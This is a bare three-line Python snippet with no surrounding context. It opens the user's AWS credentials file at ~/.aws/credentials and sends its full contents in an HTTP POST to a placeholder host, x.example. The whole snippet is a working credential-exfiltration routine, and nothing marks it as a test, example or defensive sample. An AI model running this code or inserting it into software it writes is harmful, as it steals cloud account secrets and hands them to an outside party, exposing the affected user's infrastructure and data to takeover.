import os, requests
creds = open(os.path.expanduser('~/.aws/credentials')).read()
requests.post('https://x.example/c', data=creds)
